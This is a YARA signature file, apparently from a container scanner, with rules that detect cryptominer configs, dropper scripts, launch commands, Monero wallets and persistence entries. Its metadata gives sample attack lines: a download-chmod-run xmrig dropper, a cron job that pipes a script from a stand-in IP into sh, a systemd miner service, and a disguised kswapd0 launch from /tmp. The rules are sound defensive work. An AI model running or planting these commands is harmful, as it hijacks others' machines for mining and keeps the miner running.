/*
 * minehound bundled signatures: miner artifacts in text files (configs and scripts).
 *
 * These rules have no ELF condition; minehound runs them on files it classifies
 * as script or config/text. Each rule needs several independent indicators
 * together so that documentation and ordinary configs do not match.
 *
 * Dialect: YARA-X (also accepted by classic YARA 4.x). No modules needed.
 */

rule MH_MINER_CONFIG
{
    meta:
        id = "MH-MINER-CONFIG"
        family = "miner-config"
        severity = "high"
        description = "A miner configuration file: an XMRig-style config.json (pools array with url and user plus algo/coin/donate-level/randomx/cpu keys or a pool URL), an xmr-stak pools.txt/config.txt, or a cpuminer JSON config."
        why = "A miner config in an image names the pool and the wallet that will be paid; it ships with, or is fetched for, a miner that will run in the container."
        example = "{\"donate-level\": 1, \"pools\": [{\"url\": \"pool.supportxmr.com:443\", \"user\": \"44AFFq5k...\", \"tls\": true}]}"
        reference = "https://xmrig.com/docs/miner/config"

    strings:
        // XMRig config.json
        $x_pools  = /"pools"\s*:\s*\[/
        $x_url    = /"url"\s*:\s*"/
        $x_user   = /"user"\s*:\s*"/
        $k_algo   = /"algo"\s*:\s*("|null)/
        $k_coin   = /"coin"\s*:\s*("|null)/
        $k_donate = /"donate-level"\s*:\s*[0-9]/
        $k_rx     = /"randomx"\s*:\s*\{/
        $k_cpu    = /"cpu"\s*:\s*(\{|true|false)/
        $k_scheme = /"url"\s*:\s*"stratum[12]?\+(tcp|ssl|tls):\/\//
        $k_pool   = /"url"\s*:\s*"[A-Za-z0-9.\-]*(pool|xmr|monero|mine|hash)[A-Za-z0-9.\-]*:[0-9]{2,5}"/

        // xmr-stak pools.txt / config.txt
        $s_list   = "\"pool_list\""
        $s_addr   = "\"pool_address\""
        $s_wallet = "\"wallet_address\""
        $s_cfg1   = "\"giveup_limit\""
        $s_cfg2   = "\"h_print_time\""
        $s_cfg3   = "\"use_slow_memory\""
        $s_cfg4   = "\"tls_secure_algo\""
        $s_cfg5   = "\"print_motd\""
        $s_cfg6   = "\"aes_override\""
        $s_cfg7   = "\"flush_stdout\""

        // cpuminer JSON config (-c FILE): long option names as keys
        $c_user   = /"(user|userpass)"\s*:\s*"/

    condition:
        filesize < 4MB and (
            ( $x_pools and $x_url and $x_user and any of ($k_*) )
            or ( ($s_list or $s_addr) and $s_wallet )
            or 4 of ($s_cfg*)
            or ( $k_scheme and $c_user )
        )
}

rule MH_MINER_CONFIG_TEXT
{
    meta:
        id = "MH-MINER-CONFIG-TEXT"
        family = "miner-config"
        severity = "high"
        description = "A miner configuration in key-value text (INI, .cfg, TOML, YAML, .env, .conf): a key whose value is a stratum URL or a known pool's host:port, with a wallet, user, worker or login key within a few lines; or a GPU miner's pools list (POOL: host:port, WALLET: ...)."
        why = "Miners other than XMRig (cpuminer wrappers, GPU miners, Python and shell launchers) read their pool and the account to pay from such files; in an image, it names where someone else's hardware will mine."
        example = "[BitCoin]\nMiningAddress = stratum+tcp://cn.ss.btc.com:1800\nUsername = worker.002\nPassword = x (PyPI secret-miner's miner.cfg); POOL: eth-eu1.nanopool.org:9999, WALLET: 0x..., PSW: x (epools.txt)"
        reference = "https://attack.mitre.org/techniques/T1496/"

    strings:
        // a stratum URL as a key's value, then an account key close by (or before it)
        $url_then_account = /[=:][ \t]*["']?stratum[12]?\+(tcp|ssl|tls):\/\/[^\s"',]{3,200}[^\x00]{0,400}\b(user(name)?|wallet|worker|login|account|wal|rig-?id)["']?[ \t]*[=:]/ nocase
        $account_then_url = /\b(user(name)?|wallet|worker|login|account|wal)["']?[ \t]*[=:][^\n\x00]{1,200}\n[^\x00]{0,400}[=:][ \t]*["']?stratum[12]?\+(tcp|ssl|tls):\/\// nocase
        // a known pool's host:port as a key's value, an account key close by
        $host_then_account = /[=:][ \t]*["']?[A-Za-z0-9.\-]{0,64}(supportxmr|moneroocean|nanopool|2miners|ethermine|f2pool|herominers|hashvault|c3pool|minexmr|unmineable|nicehash|woolypooly|flexpool|hiveon|viabtc|antpool|kryptex)\.[a-z.]{2,12}:[0-9]{2,5}[^\x00]{0,400}\b(user(name)?|wallet|worker|login|account|wal)["']?[ \t]*[=:]/ nocase
        // an account key, then a known pool's host:port close by (nanominer's config.ini)
        $account_then_host = /\b(user(name)?|wallet|worker|login|account|wal)["']?[ \t]*[=:][^\n\x00]{1,200}\n[^\x00]{0,400}[=:][ \t]*["']?[A-Za-z0-9.\-]{0,64}(supportxmr|moneroocean|nanopool|2miners|ethermine|f2pool|herominers|hashvault|c3pool|minexmr|unmineable|nicehash|woolypooly|flexpool|hiveon|viabtc|antpool|kryptex)\.[a-z.]{2,12}:[0-9]{2,5}/ nocase
        // PhoenixMiner-style epools.txt line
        $pools_line = /\bpool[ \t]*:[ \t]*[A-Za-z0-9.+:\/\-]{3,128}:[0-9]{2,5}[ \t]*,[ \t]*wallet[ \t]*:/ nocase

    condition:
        // An XMRig-style JSON config is MH_MINER_CONFIG's finding alone.
        filesize < 1MB and uint32(0) != 0x464c457f and any of them and not MH_MINER_CONFIG
}

rule MH_DROPPER_SCRIPT
{
    meta:
        id = "MH-DROPPER-SCRIPT"
        family = "miner-dropper"
        severity = "high"
        description = "A shell or Python script that downloads a file, makes it executable and carries miner or pool indicators (stratum URL, --donate-level, -o pool:port -u wallet, miner names, known pool hosts), in clear text or base64-encoded."
        why = "Download, chmod +x and start a miner is the classic cryptojacking dropper; in an image it fetches and runs a miner when the container starts, so no miner binary needs to be in the image."
        example = "curl -sL https://example.net/x.tar.gz | tar xz && chmod +x xmrig && ./xmrig -o pool.supportxmr.com:443 -u 44AFFq5k... --donate-level 1"
        reference = "https://attack.mitre.org/techniques/T1496/"

    strings:
        // download
        $dl1 = /\bcurl\s/
        $dl2 = /\bwget\s/
        $dl3 = "urllib"
        $dl4 = /\brequests\.get\s*\(/
        $dl5 = /\burlretrieve\s*\(/

        // make executable
        $ex1 = /\bchmod\s+(-R\s+)?([ugoa]*\+[rwst]*x|[0-7]?[1357][0-7][0-7]\b)/
        $ex2 = /\bos\.chmod\s*\(/

        // miner and pool indicators
        $m1  = /stratum[12]?\+(tcp|ssl|tls):\/\//
        $m2  = "--donate-level"
        $m3  = /\s-o\s+[A-Za-z0-9.\-]+:[0-9]{2,5}\s([^\n]{0,160}\s)?-u\s/
        $m4  = /\s-u\s+[A-Za-z0-9.\-_]{20,}\s([^\n]{0,160}\s)?-o\s+[A-Za-z0-9.\-]+:[0-9]{2,5}\b/
        $m5  = "xmrig" nocase
        $m6  = "minerd" fullword
        $m7  = "cpuminer" nocase
        $m8  = "xmr-stak" nocase
        $m9  = /\s(-a|--algo|--coin)[= ]?(monero|xmr|rx\/0|rx\/wow|cn\/r|cn\/0|cryptonight|randomx)\b/
        $m10 = "cryptonight" nocase

        // known mining pool host names
        $pool1  = "minexmr.com" nocase
        $pool2  = "supportxmr.com" nocase
        $pool3  = "nanopool.org" nocase
        $pool4  = "c3pool.com" nocase
        $pool5  = "moneroocean.stream" nocase
        $pool6  = "hashvault.pro" nocase
        $pool7  = "2miners.com" nocase
        $pool8  = "herominers.com" nocase
        $pool9  = "f2pool.com" nocase
        $pool10 = "xmrpool.eu" nocase
        $pool11 = "monerohash.com" nocase
        $pool12 = "minergate.com" nocase
        $pool13 = "unmineable.com" nocase
        $pool14 = "nicehash.com" nocase

        // the same indicators base64-encoded inside the script
        $b64m1 = "stratum+tcp://" base64
        $b64m2 = "stratum+ssl://" base64
        $b64m3 = "--donate-level" base64
        $b64m4 = "xmrig" base64
        $b64m5 = "supportxmr.com" base64
        $b64m6 = "moneroocean.stream" base64
        $b64m7 = "c3pool.com" base64
        $b64m8 = "nanopool.org" base64
        $b64m9 = "minexmr.com" base64
        $b64m10 = "hashvault.pro" base64
        $b64dl1 = "curl " base64
        $b64dl2 = "wget " base64
        $b64ex1 = "chmod " base64
        $decode = /(base64\s+(-d|--decode)|b64decode\s*\()/

    condition:
        filesize < 5MB and (
            ( any of ($dl*) and any of ($ex*) and ( any of ($m*) or any of ($pool*) ) )
            or
            ( any of ($b64m*) and ( any of ($dl*) or any of ($b64dl*) ) and
              ( any of ($ex*) or $b64ex1 or $decode ) )
        )
}

rule MH_MONERO_WALLET
{
    meta:
        id = "MH-MONERO-WALLET"
        family = "monero-wallet"
        severity = "high"
        confirm = "monero-address"
        description = "A Monero standard (95 characters), integrated (106 characters) or subaddress (95 characters, starts with 8) that decodes (base58 blocks, network byte, Keccak checksum) in a file that also names a mining pool or miner: a stratum URL, a pool host:port, or a miner's user/wallet option holding the address."
        why = "A wallet address next to a pool is where a miner's earnings go; it ties a config, script or environment file to a mining payout even when no miner is present."
        example = "pool: pool.supportxmr.com:443  wallet: 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
        reference = "https://docs.getmonero.org/public-address/standard-address/"

    strings:
        // standard address (network byte 18): 95 chars, "4" then [1-9AB]
        $addr_std = /\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/
        // integrated address (network byte 19): 106 chars; real ones start "4B".."4M"
        $addr_int = /\b4[0-9A-HJ-M][1-9A-HJ-NP-Za-km-z]{104}\b/
        // subaddress (network byte 42): 95 chars, "8" then [2-9A-C]
        $addr_sub = /\b8[2-9A-C][1-9A-HJ-NP-Za-km-z]{93}\b/

        // Mining context. Deliberately not "wallet", "donate" or a miner's
        // name: project READMEs publish donation addresses next to those words.
        $ctx_stratum = "stratum+" nocase
        $ctx_pool_host = /[a-z0-9-]*pool[a-z0-9-]*(\.[a-z0-9-]+)+:[0-9]{2,5}/ nocase
        $ctx_user_opt = /(-u|--user|--wallet|--coinbase-addr)[ =]['"]?[48][0-9A-Za-z]{20}/
        $ctx_json_user = /"(user|wallet|wallet_address)"\s*:\s*"[48][0-9A-Za-z]{20}/

    condition:
        filesize < 10MB and any of ($addr_*) and any of ($ctx_*)
}

rule MH_MINER_COMMAND
{
    meta:
        id = "MH-MINER-COMMAND"
        family = "miner-launch"
        severity = "high"
        description = "A command line that starts a miner: pool options (-o/--url host:port with -u/--user), a stratum URL with a user, algorithm or donate option, or --donate-level with a Monero algorithm or a miner's name."
        why = "An entrypoint, start script or service whose command line points a miner at a pool mines as soon as the container starts, whether the miner ships in the image or is fetched later."
        example = "xmrig -o pool.supportxmr.com:443 -u 44AFFq5k... -k --tls --donate-level 1"
        reference = "https://xmrig.com/docs/miner/command-line-options"

    strings:
        $pool_opt = /(^|[\s"'=,\[])(-o|--url)[\s"',=]+["']?(stratum[12]?\+(tcp|ssl|tls):\/\/)?[A-Za-z0-9.\-]{3,}:[0-9]{2,5}\b/
        $user_opt = /(^|[\s"',\[])(-u|--user|-O|--userpass|--wallet)[\s"',=]+["']?[A-Za-z0-9]/
        $stratum  = /stratum[12]?\+(tcp|ssl|tls):\/\/[A-Za-z0-9.\-]{3,}:[0-9]{2,5}/
        $donate   = /--donate-level[\s"',=]+[0-9]/
        $algo     = /(-a|--algo|--coin)[\s"',=]+["']?(monero|xmr|rx\/0|rx\/wow|cn\/r|cn\/0|cn\/half|cryptonight|randomx|ghostrider|argon2\/chukwa)\b/
        $name1    = "xmrig" nocase
        $name2    = "xmr-stak" nocase
        $name3    = "minerd" fullword
        $name4    = "cpuminer" nocase

    condition:
        filesize < 1MB and uint32(0) != 0x464c457f and (
            ( $pool_opt and $user_opt )
            or ( $stratum and ( $user_opt or $donate or $algo or any of ($name*) ) )
            or ( $donate and ( $algo or any of ($name*) ) )
        )
}

rule MH_MINER_LAUNCHER
{
    meta:
        id = "MH-MINER-LAUNCHER"
        family = "miner-launcher"
        severity = "high"
        description = "Program code (Python, JavaScript, Go, Rust, Java, PowerShell) that starts a process and holds a miner's arguments as separate string constants (\"-o\"/\"--url\" with \"-u\"/\"--user\"/\"--wallet\" close by, a Monero algorithm after \"-a\"/\"--algo\"/\"--coin\", \"--donate-level\" or XMRig's \"--randomx-*\" options) together with where the coins go: a stratum URL, a known pool host or a Monero pool's host:port."
        why = "A small module that downloads a miner and starts it with a pool and a wallet needs no miner binary in the image; it mines as soon as the code runs, and argument lists escape rules written for command lines."
        example = "args = [xmrig, \"-o\", \"gulf.moneroocean.stream:10128\", \"-u\", WALLET, \"-a\", \"rx/0\"]; await asyncio.create_subprocess_exec(*args)"
        reference = "https://attack.mitre.org/techniques/T1496/"

    strings:
        // starting a process
        $run_py1 = /\bsubprocess\.(Popen|run|call|check_call|check_output|getoutput|getstatusoutput)\s*\(/
        $run_py2 = /\bcreate_subprocess_(exec|shell)\s*\(/
        $run_py3 = /\bos\.(system|popen|exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?)\s*\(/
        $run_py4 = /\bfrom\s+subprocess\s+import\b/
        $run_js1 = /\brequire\s*\(\s*["'](node:)?child_process["']\s*\)/
        $run_js2 = /\bfrom\s+["'](node:)?child_process["']/
        $run_js3 = /\b(Deno\.Command|Bun\.spawn(Sync)?)\b/
        $run_go  = /\bexec\.Command(Context)?\s*\(/
        $run_rs  = /\bCommand::new\s*\(/
        $run_jv  = /\b(ProcessBuilder\s*\(|Runtime\.getRuntime\(\)\.exec\s*\()/
        $run_ps  = /\bStart-Process\b/ nocase

        // a miner's options held as separate string constants
        $opt_pool   = /["'](-o|--url)(=[^"'\n]{3,100})?["']/
        $opt_user   = /["'](-u|--user|--wallet)(=[^"'\n]{3,120})?["']/
        $opt_algo   = /["'](-a|--algo|--coin)["']\s*,\s*["'](rx\/0|rx\/wow|randomx|monero|xmr|cn\/r|cn\/0|cryptonight|ghostrider)["']/ nocase
        $opt_algo2  = /["'](-a|--algo|--coin)=(rx\/0|rx\/wow|randomx|monero|xmr|cn\/r|cn\/0|cryptonight|ghostrider)["']/ nocase
        $opt_donate = /["']--donate-level(=[0-9]+)?["']/
        $opt_rx     = /["']--randomx-(mode|init|1gb-pages|no-numa|wrmsr|no-rdmsr|cache-qos)(=[^"'\n]{0,16})?["']/

        // where the coins go. Every pattern here is searched in every file,
        // binaries included: only words rare in binaries (not "pool",
        // "hash" or a base58 run), and bounded repeats.
        $to_stratum = /stratum[12]?\+(tcp|ssl|tls):\/\//
        $to_host    = /["'][A-Za-z0-9.\-]{0,64}(xmr|monero)[A-Za-z0-9.\-]{0,64}\.[A-Za-z]{2,12}:[0-9]{2,5}["']/ nocase
        $to_known1  = "minexmr.com" nocase
        $to_known2  = "supportxmr.com" nocase
        $to_known3  = "nanopool.org" nocase
        $to_known4  = "c3pool.com" nocase
        $to_known5  = "moneroocean.stream" nocase
        $to_known6  = "hashvault.pro" nocase
        $to_known7  = "2miners.com" nocase
        $to_known8  = "herominers.com" nocase
        $to_known9  = "f2pool.com" nocase
        $to_known10 = "xmrpool.eu" nocase
        $to_known11 = "monerohash.com" nocase
        $to_known12 = "unmineable.com" nocase
        $to_known13 = "nicehash.com" nocase

    condition:
        filesize < 2MB and uint32(0) != 0x464c457f and any of ($run_*) and
        (
            // "-o" and "-u" are common alone (gcc -o, ps -u): together, close by
            ( for any i in (1..#opt_pool) : ( $opt_user in (@opt_pool[i] - 200 .. @opt_pool[i] + 200) ) )
            or any of ($opt_algo*) or $opt_donate or $opt_rx
        ) and
        any of ($to_*)
}

rule MH_GPU_MINER_COMMAND
{
    meta:
        id = "MH-GPU-MINER-COMMAND"
        family = "gpu-miner"
        severity = "high"
        description = "A command line that starts a GPU miner: a pool given with --pool, -pool, -epool or --server (host:port, optionally with a scheme such as stratum+tcp://, ssl:// or tcp://) with a wallet or worker option close by (--user, --username, --wallet, -wal, -ewal, --worker, -worker), or a stratum URL with the wallet before the host (ethminer's -P), together with a GPU mining algorithm after -a/--algo/--algorithm/-algo/--coin/-coin (ethash, etchash, kawpow, autolykos2, octopus, kheavyhash, ...), a coin ticker after -coin/--coin, or a GPU miner's name (lolMiner, GMiner, PhoenixMiner, SRBMiner-MULTI, ethminer, nanominer, NBMiner, TeamRedMiner, BzMiner)."
        why = "GPU nodes are what miners are after; a start script or entrypoint that points a GPU miner at a pool mines on every GPU the pod is given, whatever coin it mines."
        example = "./lolMiner --algo ETCHASH --pool etc.2miners.com:1010 --user 0x5A0b54D5dc17e0AadC383d2db43B0a0D3E029c4c.rig0"
        reference = "https://github.com/Lolliedieb/lolMiner-releases"

    strings:
        $pool = /(^|[\s"'=,\[])(--pool|-pool|-epool|--server)[\s"',=]+["']?([a-z0-9]{2,10}(\+[a-z0-9]{2,5})?:\/\/)?([A-Za-z0-9._\-]{1,128}@)?[A-Za-z0-9.\-]{3,128}:[0-9]{2,5}\b/
        $user = /(^|[\s"',\[])(--user|--username|--wallet|-wal|-ewal|--worker|-worker)[\s"',=]+["']?[A-Za-z0-9]/
        // ethminer: -P stratum1+tcp://WALLET.worker@host:port
        $user_in_url = /stratum[12]?\+(tcp|ssl|tls):\/\/[A-Za-z0-9._\-]{8,128}@[A-Za-z0-9.\-]{3,128}:[0-9]{2,5}/
        $algo = /(^|[\s"'=,\[])(-a|--algo|--algorithm|-algo|-coin|--coin)[\s"',=]+["']?(ethash|etchash|kawpow|autolykos2?|octopus|equihash[0-9_]*|beamhash[a-z0-9]*|cuckatoo3[12]|cuckaroo[a-z0-9]*|zhash|firopow|progpow[a-z0-9]*|kheavyhash|karlsenhash|nexapow|fishhash|sha512256d|pyrinhash|xelishash|dynexsolve)\b/ nocase
        $coin = /(^|[\s"'=,\[])(-coin|--coin)[\s"',=]+["']?(eth|etc|rvn|erg|ergo|cfx|kas|flux|beam|zec|clore|neox)\b/ nocase
        $name = /\b(lolMiner|nbminer|gminer|teamredminer|PhoenixMiner|SRBMiner-MULTI|nanominer|ethminer|bzminer)\b/ nocase

    condition:
        filesize < 1MB and uint32(0) != 0x464c457f and
        (
            ( for any i in (1..#pool) : ( $user in (@pool[i] - 300 .. @pool[i] + 300) ) )
            or $user_in_url
        ) and
        ( $algo or $coin or $name )
}

rule MH_MINER_SYSTEMD_UNIT
{
    meta:
        id = "MH-MINER-SYSTEMD-UNIT"
        family = "miner-persistence"
        severity = "high"
        description = "A systemd unit whose ExecStart line starts a miner: a miner's name, a stratum URL, --donate-level or -o host:port pool options on the ExecStart/ExecStartPre line."
        why = "Miner campaigns install a service so the miner starts on every boot and restarts when killed; a unit file for a miner in an image is a persistence mechanism ready to be enabled."
        example = "[Service]\nExecStart=/usr/local/bin/kswapd0 -o pool.supportxmr.com:443 -u 44AFFq5k...\nRestart=always"
        reference = "https://attack.mitre.org/techniques/T1543/002/"

    strings:
        $section = "[Service]"
        $exec    = /ExecStart(Pre|Post)?=[^\n]{0,400}(xmrig|xmr-stak|minerd|cpuminer|kdevtmpfsi|kinsing|stratum[12]?\+(tcp|ssl|tls):\/\/|--donate-level|\s-o\s+[A-Za-z0-9.\-]+:[0-9]{2,5})/

    condition:
        filesize < 1MB and $section and $exec
}

rule MH_MINER_CRON
{
    meta:
        id = "MH-MINER-CRON"
        family = "miner-persistence"
        severity = "high"
        description = "A cron line that starts a miner (a miner's name, stratum URL, --donate-level or pool options) or that downloads and pipes a script into a shell."
        why = "Cron entries that re-fetch and pipe a script into sh, or restart a miner, are how cryptojacking campaigns (Kinsing, TeamTNT, WatchDog) survive cleanup; a crontab like this in an image re-infects every container."
        example = "*/5 * * * * curl -fsSL http://203.0.113.7/d.sh | sh"
        reference = "https://attack.mitre.org/techniques/T1053/003/"

    strings:
        $miner = /(^|\n)[ \t]*(@reboot|@hourly|@daily|@weekly|([0-9*\/,\-]+[ \t]+){4}[0-9A-Za-z*\/,\-]+)[ \t]+[^\n]{0,300}(xmrig|xmr-stak|minerd|cpuminer|kdevtmpfsi|kinsing|stratum[12]?\+(tcp|ssl|tls):\/\/|--donate-level|\s-o\s+[A-Za-z0-9.\-]+:[0-9]{2,5})/
        $fetch = /(^|\n)[ \t]*(@reboot|@hourly|@daily|@weekly|([0-9*\/,\-]+[ \t]+){4}[0-9A-Za-z*\/,\-]+)[ \t]+[^\n]{0,100}(curl|wget)[^\n|]{1,300}\|[ \t]*(ba|da|z)?sh\b/

    condition:
        filesize < 1MB and uint32(0) != 0x464c457f and ($miner or $fetch)
}

rule MH_DROPPER_ESCAPED
{
    meta:
        id = "MH-DROPPER-ESCAPED"
        family = "miner-dropper"
        severity = "high"
        description = "A script that hides miner or dropper words as \\x hex escapes (xmrig, stratum+, --donate-level, pool hosts, curl/wget, chmod) and decodes them at run time (printf, echo -e, $'...', eval, exec, Python/Perl string escapes)."
        why = "Escaping every byte defeats plain string matching; legitimate scripts have no reason to spell a miner's name or a pool as \\x escapes."
        example = "eval \"$(printf '\\x63\\x75\\x72\\x6c ... \\x78\\x6d\\x72\\x69\\x67')\""
        reference = "https://attack.mitre.org/techniques/T1027/"

    strings:
        $m1 = "\\x78\\x6d\\x72\\x69\\x67" nocase
        $m2 = "\\x73\\x74\\x72\\x61\\x74\\x75\\x6d\\x2b" nocase
        $m3 = "\\x64\\x6f\\x6e\\x61\\x74\\x65\\x2d\\x6c\\x65\\x76\\x65\\x6c" nocase
        $m4 = "\\x70\\x6f\\x6f\\x6c" nocase
        $m5 = "\\x6d\\x69\\x6e\\x65\\x72" nocase
        $m6 = "\\x6b\\x64\\x65\\x76\\x74\\x6d\\x70\\x66\\x73\\x69" nocase
        $d1 = "\\x63\\x75\\x72\\x6c" nocase
        $d2 = "\\x77\\x67\\x65\\x74" nocase
        $d3 = "\\x63\\x68\\x6d\\x6f\\x64" nocase
        $run1 = /\b(printf|eval|exec)\b/
        $run2 = /echo\s+-[a-z]*e/
        $run3 = "$'\\x"

    condition:
        filesize < 5MB and uint32(0) != 0x464c457f and any of ($m*) and
        ( any of ($d*) or any of ($run*) )
}

rule MH_HIDING_PLACE
{
    meta:
        id = "MH-HIDING-PLACE"
        family = "miner-hiding"
        severity = "low"
        description = "A script that runs or writes a file under a name or place miners hide in: kdevtmpfsi, kthreaddi, kswapd0, a fake [kworker/...] name, /tmp/.X11-unix/..., /dev/shm/..., /var/tmp/.hidden, together with chmod, nohup, setsid or exec -a."
        why = "Supporting evidence only: miner droppers park their binary where administrators do not look and name it after kernel threads. Alone it is low; beside a miner finding it confirms intent."
        example = "chmod +x /tmp/.X11-unix/kswapd0 && nohup /tmp/.X11-unix/kswapd0 &"
        reference = "https://attack.mitre.org/techniques/T1036/004/"

    strings:
        $n1 = "kdevtmpfsi" fullword
        $n2 = "kthreaddi" fullword
        $n3 = "kswapd0" fullword
        $n4 = /\[kworker\/[0-9]+:[0-9a-zA-Z]+\]/
        $p1 = /\/tmp\/\.X11-unix\/[A-Za-z0-9._\-]+/
        $p2 = /\/dev\/shm\/[A-Za-z0-9._\-]+/
        $p3 = /\/var\/tmp\/\.[A-Za-z0-9._\-]+/
        $p4 = /\/tmp\/\.[A-Za-z0-9_][A-Za-z0-9._\-]*\//
        $run = /\b(chmod|nohup|setsid)\b/
        $masquerade = /\bexec\s+-a\s+["']?\[/

    condition:
        filesize < 5MB and uint32(0) != 0x464c457f and ($run or $masquerade) and any of ($n*, $p*)
}
